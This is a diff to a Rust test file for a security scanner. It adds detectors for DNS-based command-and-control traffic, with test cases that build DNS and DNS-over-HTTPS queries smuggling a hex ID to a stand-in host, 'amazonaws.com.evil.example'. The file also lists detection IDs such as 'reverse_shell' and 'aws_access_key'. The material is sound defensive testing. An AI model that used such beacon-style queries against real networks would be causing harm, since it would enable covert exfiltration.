@@ -7,7 +7,9 @@ use super::*;
 use crate::finding::Confidence;
 use crate::limits::SCAN_WINDOW_MIN_BYTES;
 
-const IDS: [&str; 43] = [
+const IDS: [&str; 45] = [
+    "c2_dns_query",
+    "c2_dns_message",
     "aws_access_key",
     "reverse_shell",
     "destructive_rm",
@@ -518,4 +520,24 @@ fn what_is_harmless_only_if_nothing_follows_waits_for_what_follows() {
         let single: Vec<&[u8]> = front.as_bytes().chunks(1).chain([behind.as_bytes()]).collect();
         assert_eq!(in_pieces(id, &single), likely, "{id}");
     }
+}
+
+/// Names that clouds make are asked for over HTTPS as well: they were told as data that is carried off.
+#[test]
+fn a_cloud_s_name_is_hardly_data_however_it_is_asked_for() {
+    let id = "9a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d";
+    let asked = |domain: &str| {
+        let mut message = b"\0\0\x01\0\0\x01\0\0\0\0\0\0".to_vec();
+        for label in [id, "gr7"].into_iter().chain(domain.split('.')) {
+            message.push(u8::try_from(label.len()).unwrap());
+            message.extend(label.as_bytes());
+        }
+        message.extend(b"\0\0\x01\0\x01");
+        in_pieces("c2_dns_message", &[&message])
+    };
+    assert_eq!(asked("us-east-1.eks.amazonaws.com"), Some(Confidence::Low));
+    assert_eq!(asked("amazonaws.com.evil.example"), Some(Confidence::Medium));
+    let query = |domain| format!("GET /dns-query?name={id}.gr7.{domain}&type=A HTTP/1.1");
+    assert_low("c2_dns_query", &[&query("us-east-1.eks.amazonaws.com")]);
+    assert_likely("c2_dns_query", &[&query("amazonaws.com.evil.example")]);
 }
